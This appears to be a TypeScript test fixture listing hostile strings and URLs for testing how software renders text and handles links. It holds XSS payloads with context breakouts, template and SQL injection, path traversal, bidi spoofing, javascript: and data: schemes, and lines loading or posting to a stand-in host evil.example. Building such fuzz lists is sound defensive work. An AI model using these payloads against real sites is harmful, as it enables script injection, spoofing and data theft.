/** Texts and addresses that are harm wherever they are taken for more than text. */

const TAGS = [
  'img src=x onerror',
  'svg onload',
  'body onload',
  'video><source onerror',
  'details open ontoggle',
  'input autofocus onfocus',
];
const BREAKS = ['', '">', "'>", '</title>', '</script>', '</textarea>', '-->', ']]>', '</style>', '`', '${', '{{'];

/** A tag that would run after each way out of where the text stands. */
const tags = BREAKS.flatMap(out => TAGS.map(tag => `${out}<${tag}=__pwn()>`));

const SCRIPTS = [
  '<script>__pwn()</script>',
  '</script><script>__pwn()</script>',
  '<scr<script>ipt>__pwn()</scr</script>ipt>',
  '<iframe srcdoc="<script>parent.__pwn()</script>">',
  '<iframe src="javascript:__pwn()">',
  '<a href="javascript:__pwn()">Ada</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=__pwn()>',
  '<noscript><p title="</noscript><img src=x onerror=__pwn()>">',
  '<template><img src=x onerror=__pwn()></template>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<form action=https://evil.example/><button>Ada',
  '<object data="data:text/html,<script>__pwn()</script>">',
  '<embed src="data:image/svg+xml,<svg onload=__pwn()>">',
  '&lt;img src=x onerror=__pwn()&gt;',
  '&#60;img src=x onerror=__pwn()&#62;',
  '\\u003cimg src=x onerror=__pwn()\\u003e',
  '%3Cimg%20src%3Dx%20onerror%3D__pwn()%3E',
  '＜img src=x onerror=__pwn()＞',
];

const TEMPLATES = [
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '{name}',
  '{count}',
  '{title}',
  '$1 $& $`',
  '__MSG_popupSave__',
  '@@bidi_dir',
];
const WORDS = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  'then',
  'null',
  'undefined',
  'NaN',
  '0',
  'false',
];
const DIRECTIONS = [
  'Ada \u202Egnp.exe',
  '\u2067Ada',
  'Ada\u2066',
  '\u200FAda',
  'عائشة ABC',
  'Аda',
  'Z\u0351\u036B\u0343\u036A\u0302a\u0349lgo',
  '👩‍👩‍👧‍👦 Ada',
];
const SQL = [
  "Robert'); DROP TABLE people;--",
  '" OR 1=1 --',
  '=HYPERLINK("https://evil.example")',
  '../../etc/passwd',
  'C:\\Windows',
  '%00',
  'a\u0000b',
];
const LONG = ['x'.repeat(200), 'W'.repeat(120), 'ﷺ'.repeat(40), '漢'.repeat(100), 'a b '.repeat(45)];

export const TEXTS: readonly string[] = [
  ...tags,
  ...SCRIPTS,
  ...TEMPLATES,
  ...WORDS,
  ...DIRECTIONS,
  ...SQL,
  ...LONG,
].concat(Array.from({ length: 20 }, (_, index) => `<b id=n${index} onclick=__pwn()>${index}</b>`));

const SCHEMES = [
  'javascript',
  'JaVaScRiPt',
  ' javascript',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  'vbscript',
  'data',
  'blob',
  'filesystem',
  'file',
  'ftp',
  'about',
  'view-source',
  'chrome',
  'chrome-extension',
  'moz-extension',
  'resource',
  'ws',
  'intent',
];

export const ADDRESSES: readonly string[] = [
  ...SCHEMES.map(scheme => `${scheme}:__pwn()`),
  ...SCHEMES.map(scheme => `${scheme}://evil.example/%0A__pwn()`),
  'data:text/html,<script>__pwn()</script>',
  'data:image/svg+xml,<svg onload=__pwn()>',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'http://a@b@evil.example/',
  'https://user:pass@evil.example/',
  'https://evil.example\\@good.example/',
  'https://evil.example%2F@good.example/',
  'https://[::1]/',
  'https://127.0.0.1:8080/',
  'https://xn--80ak6aa92e.example/',
  'https://evil.example/"onmouseover="__pwn()',
  "https://evil.example/'onmouseover='__pwn()",
  'https://evil.example/<script>__pwn()</script>',
  'https://evil.example/\u202Egnp',
  'mailto:a@b.example?bcc=evil@evil.example',
  'mailto:a@b.example%0D%0ABcc:evil@evil.example',
  'tel:*#06#',
  'javascript&colon;__pwn()',
];
